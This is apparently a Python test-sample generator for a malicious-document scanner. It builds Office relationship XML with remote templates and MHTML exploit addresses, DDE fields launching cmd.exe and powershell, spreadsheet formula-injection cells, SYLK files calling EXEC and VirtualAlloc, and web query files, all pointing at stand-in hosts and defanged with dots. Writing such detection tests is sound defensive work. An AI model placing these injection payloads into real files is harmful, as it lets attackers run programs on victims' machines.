"""What Office files load from elsewhere: templates, objects, DDE, formulas, queries."""

from plain import sample, script, to_bytes

TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relationships(kind, target, order="kind first"):
    attributes = [f'Type="{TYPE}{kind}"', f'Target="{target}"', 'TargetMode="External"']
    if order != "kind first":
        attributes.reverse()
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" {" ".join(attributes)}/></Relationships>'
    )


for order in ("kind first", "kind last"):
    for target in ("http://192.0.2.1/t.dotm", "https://example.com/a?b=1", "\\\\example.com@SSL\\t\\a.dotx", "HTTP://example.com/x.doc"):
        script("Office_Template_From_Network", relationships("attachedTemplate", target, order))
    for target in ("mht·ml:http://example.com/a.html!x-usc:http://example.com/a.html", "http://example.com/RDF8421.html!", "MHT·ML:https://example.com/side.html"):
        script("Office_Object_Exploit_Address", relationships("oleObject", target, order))
    for kind in ("oleObject", "frame", "subDocument", "aFChunk"):
        script("Office_Object_From_Network", relationships(kind, "https://example.com/part.docx", order))

DOCUMENT = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>{}</w:p></w:body></w:document>'
RUN = '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>'
DDE = ' DDE·AUTO c:\\\\windows\\\\system32\\\\cm·d.exe "/k calc.exe" '
for body in (
    RUN.format(DDE),
    '<w:fldSimple w:instr=\'D·DE "C:\\\\Programs\\\\..\\\\power·shell.exe" "-c x"\'/>',
    "".join(RUN.format(part) for part in (" D", "D", "E", "AUTO ", "c:\\\\windows\\\\cm·d.exe")),
    RUN.format("QUOTE 67 58 92 119 105 110 100 111 119 115 92") + RUN.format("D·DE "),
):
    script("Office_DDE_Starts_Program", DOCUMENT.format(body))
for service in ("cm·d", "MS·EXCEL\\..\\..\\power·shell.exe"):
    script(
        "Office_DDE_Starts_Program",
        f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="{service}" ddeTopic="/c calc"/></externalLink>',
    )

for cell in ("=cm·d|'/C calc'!A0", '"=cm·d|\' /C notepad\'!\'A1\'"', "@SUM(1+1)*cm·d.exe|' /C calc'!A0", "-2+3+cm·d|' /C calc'!A0", "=MS·EXCEL|'\\..\\..\\..\\Windows\\System32\\cm·d.exe /c calc.exe'!''"):
    script("Spreadsheet_Formula_Starts_Program", f"Name;Amount\nSmith;{cell}\nBrown;7\n".replace("*cm", "+cm"), case=True)

for lines in (
    'C;X1;Y101;K0;EEX·EC("CALC.EXE")\n',
    'NN;NAuto_·open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;ECA·LL("Kernel32","VirtualAlloc","JJJJJ",0)\n',
    "O;E\nNN;NAuto_·open;ER1C1\nC;X1;Y1;EHALT()\n",
):
    script("Spreadsheet_Text_File_Starts_Program", f"ID;P\n{lines}E\n")

for address in ("http://example.com/a.dat", "https://example.com/?q=1", "http://192.0.2.1/q"):
    script("Web_Query_File", f"WEB\n1\n{address}\n\nSelection=AllTables\n")
sample("Web_Query_File", to_bytes("WEB\r\n2\r\nhttp://example.com/x"))
